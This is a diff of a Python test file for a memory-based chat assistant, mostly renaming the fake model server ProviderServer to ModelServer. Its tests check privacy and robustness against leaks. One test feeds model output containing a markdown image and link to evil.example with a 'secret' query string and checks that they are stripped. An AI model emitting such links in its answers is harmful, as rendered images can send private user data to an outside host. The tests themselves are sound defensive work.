@@ -18,8 +18,8 @@ from accounts.models import User
 from memories import persona, wording
 from memories.chat_settings import Chat
 from memories.persona import Answer, Mode, Turn
-from tests.chaos.provider import Mood, ProviderServer
 from tests.factories import remember, session
+from tests.model_server import ModelServer, Mood
 
 pytestmark = pytest.mark.django_db
 
@@ -41,7 +41,7 @@ def ask(actor: Actor, about: User, question: str = QUESTION, turns: tuple[Turn, 
     return asyncio.run(wording.answer(persona.prepare(actor, about, question, turns)))
 
 
-def prompt(model: ProviderServer) -> str:
+def prompt(model: ModelServer) -> str:
     [messages] = model.chats
     return json.dumps(messages, ensure_ascii=False)
 
@@ -49,46 +49,44 @@ def prompt(model: ProviderServer) -> str:
 # --- What is answered ---------------------------------------------------------------------------------------
 
 
-def test_the_answer_is_the_models_with_the_sources_that_it_cites(walrus: User, model: ProviderServer) -> None:
+def test_the_answer_is_the_models_with_the_sources_that_it_cites(walrus: User, model: ModelServer) -> None:
     answer = ask(session(walrus), walrus)
     assert (answer.text, answer.mode, answer.degraded) == ("Peanuts [1].", Mode.WORDED, False)
     assert [citation.number for citation in answer.citations] == [1]
 
 
-def test_a_source_that_was_not_given_is_not_cited(walrus: User, model: ProviderServer) -> None:
+def test_a_source_that_was_not_given_is_not_cited(walrus: User, model: ModelServer) -> None:
     model.says = ["Peanuts [1,", " 77] and", " [9", "9] nuts [2]."]
     answer = ask(session(walrus), walrus)
     assert answer.text == "Peanuts [1] and  nuts [2]."
     assert [citation.number for citation in answer.citations] == [1, 2]
 
 
-def test_pictures_and_links_are_taken_out(walrus: User, model: ProviderServer) -> None:
+def test_pictures_and_links_are_taken_out(walrus: User, model: ModelServer) -> None:
     model.says = ["See ![x](http", "://evil.example/?q=secret) and [", "this](https://evil.example) [1]"]
     assert ask(session(walrus), walrus).text == "See x and this [1]"
 
 
-def test_an_answer_without_a_source_is_not_shown(walrus: User, model: ProviderServer) -> None:
+def test_an_answer_without_a_source_is_not_shown(walrus: User, model: ModelServer) -> None:
     model.says = ["Trust ", "me."]
     answer = ask(session(walrus), walrus)
     assert answer.mode == Mode.EXTRACTIVE
     assert answer.degraded
 
 
-def test_the_model_may_say_that_no_memory_answers(walrus: User, model: ProviderServer) -> None:
+def test_the_model_may_say_that_no_memory_answers(walrus: User, model: ModelServer) -> None:
     model.says = ["NO", "NE"]
     answer = ask(session(walrus), walrus)
     assert (answer.text, answer.citations) == ("No memory answers that.", ())
 
 
-def test_where_no_memory_is_likely_to_answer_the_model_is_not_asked(
-    walrus: User, model: ProviderServer
-) -> None:
+def test_where_no_memory_is_likely_to_answer_the_model_is_not_asked(walrus: User, model: ModelServer) -> None:
     assert ask(session(walrus), walrus, "What is the capital of Mongolia?").citations == ()
     assert model.chats == []
 
 
 def test_what_was_said_before_is_told_to_the_model_and_kept_within_bounds(
-    walrus: User, model: ProviderServer
+    walrus: User, model: ModelServer
 ) -> None:
     turns = tuple(Turn("user", f"turn{number:02} " + "x" * 700) for number in range(20))
     ask(session(walrus), walrus, turns=turns)
@@ -97,7 +95,7 @@ def test_what_was_said_before_is_told_to_the_model_and_kept_within_bounds(
 
 
 def test_memories_beyond_the_bound_of_a_prompt_are_left_out(
-    walrus: User, model: ProviderServer, settings: LazySettings
+    walrus: User, model: ModelServer, settings: LazySettings
 ) -> None:
     settings.CHAT = replace(settings.CHAT, prompt_tokens=40)
     model.says = ["Peanuts [1] [2]"]
@@ -109,7 +107,7 @@ def test_memories_beyond_the_bound_of_a_prompt_are_left_out(
     "mood", [Mood.FAILING, Mood.LIMITED, Mood.REJECTING, Mood.BABBLING, Mood.BREAKING_OFF, Mood.HANGING]
 )
 def test_when_the_model_fails_the_memories_are_quoted(
-    walrus: User, model: ProviderServer, settings: LazySettings, mood: Mood, caplog: pytest.LogCaptureFixture
+    walrus: User, model: ModelServer, settings: LazySettings, mood: Mood, caplog: pytest.LogCaptureFixture
 ) -> None:
     settings.CHAT = replace(settings.CHAT, timeout_s=0.5 if mood is Mood.HANGING else 5.0)
     model.mood = mood
@@ -119,14 +117,12 @@ def test_when_the_model_fails_the_memories_are_quoted(
     assert "walrus" not in caplog.text
 
 
-def test_a_slow_model_is_waited_for(walrus: User, model: ProviderServer) -> None:
+def test_a_slow_model_is_waited_for(walrus: User, model: ModelServer) -> None:
     model.mood = Mood.SLOW
     assert ask(session(walrus), walrus).mode == Mode.WORDED
 
 
-def test_the_first_words_come_before_the_model_has_said_the_second(
-    walrus: User, model: ProviderServer
-) -> None:
+def test_the_first_words_come_before_the_model_has_said_the_second(walrus: User, model: ModelServer) -> None:
     model.may_go_on.clear()
     prepared = persona.prepare(session(walrus), walrus, QUESTION)
 
@@ -145,7 +141,7 @@ def test_the_first_words_come_before_the_model_has_said_the_second(
 
 
 def test_for_another_asker_nothing_private_is_in_the_prompt(
-    walrus: User, bob: User, model: ProviderServer
+    walrus: User, bob: User, model: ModelServer
 ) -> None:
     answer = ask(session(bob), walrus)
     assert answer.mode == Mode.WORDED
@@ -153,13 +149,13 @@ def test_for_another_asker_nothing_private_is_in_the_prompt(
     assert "canary" not in prompt(model)
 
 
-def test_a_visitor_is_never_answered_by_a_model(walrus: User, model: ProviderServer) -> None:
+def test_a_visitor_is_never_answered_by_a_model(walrus: User, model: ModelServer) -> None:
     assert ask(ANONYMOUS, walrus).mode == Mode.EXTRACTIVE
     assert model.chats == []
 
 
 def test_a_hosted_model_gets_nothing_of_a_person_before_their_yes(
-    walrus: User, bob: User, model: ProviderServer, monkeypatch: pytest.MonkeyPatch
+    walrus: User, bob: User, model: ModelServer, monkeypatch: pytest.MonkeyPatch
 ) -> None:
     monkeypatch.setattr(Chat, "is_hosted", True)
     assert ask(session(walrus), walrus).mode == Mode.EXTRACTIVE
@@ -173,7 +169,7 @@ def test_a_hosted_model_gets_nothing_of_a_person_before_their_yes(
 
 
 def test_an_app_narrowed_to_tags_gets_no_more_into_the_prompt(
-    walrus: User, index: Callable[[], int], model: ProviderServer
+    walrus: User, index: Callable[[], int], model: ModelServer
 ) -> None:
     tagged = remember(walrus, "The walrus is allergic to nuts at work.", tags=["work"])
     index()
@@ -197,7 +193,7 @@ HOSTILE = st.sampled_from(
 @extent(max_examples=15, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
 @given(memory=HOSTILE, question=st.one_of(HOSTILE, st.text(max_size=40)))
 def test_nothing_that_is_said_gets_a_private_word_to_another(
-    walrus: User, bob: User, index: Callable[[], int], model: ProviderServer, memory: str, question: str
+    walrus: User, bob: User, index: Callable[[], int], model: ModelServer, memory: str, question: str
 ) -> None:
     remember(walrus, memory, visibility="public")
     remember(walrus, f"Private: {memory} canary00002")
@@ -210,7 +206,7 @@ def test_nothing_that_is_said_gets_a_private_word_to_another(
     assert "canary" not in answer.text + "".join(citation.text for citation in answer.citations)
 
 
-def test_memories_stand_between_lines_that_none_of_them_can_know(walrus: User, model: ProviderServer) -> None:
+def test_memories_stand_between_lines_that_none_of_them_can_know(walrus: User, model: ModelServer) -> None:
     ask(session(walrus), walrus)
     ask(session(walrus), walrus)
     fences = [messages[0]["content"].splitlines()[-1] for messages in model.chats]
